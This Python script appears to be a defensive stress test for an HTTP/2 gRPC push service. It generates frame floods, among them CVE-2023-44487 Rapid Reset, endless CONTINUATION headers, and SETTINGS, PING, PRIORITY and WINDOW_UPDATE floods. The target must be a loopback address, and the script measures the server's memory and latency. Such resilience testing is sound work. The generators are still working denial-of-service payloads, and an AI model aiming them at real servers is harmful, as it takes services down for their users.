"""Floods of HTTP/2 frames, without a token, each as a list of bytes to send.

    python floods.py --addr HOST:PORT --pid PID [--bytes N] [--token TOKEN] [NAME…]

prints, for each flood on one connection, the peak of the server's memory above what it had before, how long the flood took to
send, and the median and p99 of an honest producer's calls meanwhile. Loopback only; DATA of at most 64 MB.
"""

import argparse
import itertools
import statistics
import struct
import threading
import time

import http2
from http2 import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame

PIECE = 64 * 1024  # sent at a time

# The header block of a call: first with its fields put into the connection's table, then by their numbers there.
FIRST_BLOCK = (b"\x83\x86" + b"".join(
    bytes((start, *([len(name)] if name else []))) + name + bytes((len(value),)) + value for start, name, value in (
        (0x44, b"", b"/herald.v1.PushService/Send"), (0x41, b"", b"test"), (0x40, b"te", b"trailers"),
        (0x5f, b"", b"application/grpc"))))
NEXT_BLOCK = bytes((0x83, 0x86, 0x80 | 65, 0x80 | 64, 0x80 | 63, 0x80 | 62))


def rapid_reset():
    """CVE-2023-44487: calls that are cancelled at once, so that no limit of calls at a time counts them."""
    block = FIRST_BLOCK
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, http2.CANCEL)
        block = NEXT_BLOCK


def continuation():
    """Headers that never end."""
    yield frame(HEADERS, 0, 1, FIRST_BLOCK)
    block = b"".join(http2.header(f"x-{number}", "v" * 100) for number in range(140))
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, block))


def empty_continuation():
    """Headers that never end and never grow."""
    yield frame(HEADERS, 0, 1, FIRST_BLOCK)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1))


def settings():
    """Each has to be acknowledged."""
    yield from itertools.repeat(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))


def ping():
    """Each has to be answered."""
    yield from itertools.repeat(frame(PING, 0, 0, bytes(8)))


def priority():
    """Each names another stream."""
    for stream in itertools.cycle(range(1, 1 << 20, 2)):
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 16))


def window_update():
    yield from itertools.repeat(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


FLOODS = {flood.__name__: flood for flood in (
    rapid_reset, continuation, empty_continuation, settings, ping, priority, window_update)}


def send(addr, name, total):
    """Sends a flood of about `total` bytes and reads nothing meanwhile. True if the server has closed the connection."""
    frames = FLOODS[name]()
    with http2.Connection(addr) as connection:
        sent = 0
        while sent < total and not connection.closed:
            piece = bytearray()
            while len(piece) < min(PIECE, total - sent):
                piece += next(frames)
            connection.send(bytes(piece))
            sent += len(piece)
        return connection.closed


class Honest:
    """A producer that sends one command after the other, each with a deadline. `seconds`: how long each took."""

    def __init__(self, call):
        self._call = call
        self._over = threading.Event()
        self.seconds, self.failures = [], 0
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._over.set()
        self._thread.join(60)

    def _run(self):
        while not self._over.is_set():
            started = time.monotonic()
            try:
                self._call()
            except Exception:  # pylint: disable=broad-except
                self.failures += 1
            self.seconds.append(time.monotonic() - started)
            self._over.wait(0.005)

    def quantile(self, share):
        """Milliseconds."""
        ordered = sorted(self.seconds)
        return 1000 * ordered[min(len(ordered) - 1, int(share * len(ordered)))] if ordered else float("nan")


def main():
    import memory
    from producer import Producer

    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--addr", required=True)
    parser.add_argument("--pid", type=int, required=True)
    parser.add_argument("--bytes", type=int, default=10_000_000)
    parser.add_argument("--token")
    parser.add_argument("names", nargs="*", metavar="NAME", default=list(FLOODS))
    options = parser.parse_args()
    if not options.addr.startswith("127."):
        parser.error("--addr: loopback only")
    total = min(options.bytes, 64_000_000)
    print(f"{'flood':20} {'peak MiB':>9} {'seconds':>8} {'calls':>6} {'failed':>6} {'p50 ms':>8} {'p99 ms':>8} {'max ms':>8}  closed")
    with Producer(None, options.token, addr=options.addr) as producer:
        producer.deliver(topic="peace")
        for name in ["(peace)", *options.names]:
            with memory.Growth(options) as growth, Honest(lambda: producer.deliver(topic="peace")) as honest:
                started = time.monotonic()
                closed = time.sleep(2) if name == "(peace)" else send(options.addr, name, total)
                took = time.monotonic() - started
                time.sleep(max(0, 2 - took))  # so that p99 is of some hundred calls
            print(f"{name:20} {growth.bytes / memory.MIB:9.1f} {took:8.2f} {len(honest.seconds):6} {honest.failures:6}"
                  f" {1000 * statistics.median(honest.seconds):8.2f} {honest.quantile(0.99):8.2f} {honest.quantile(1):8.2f}  {bool(closed)}", flush=True)


if __name__ == "__main__":
    main()
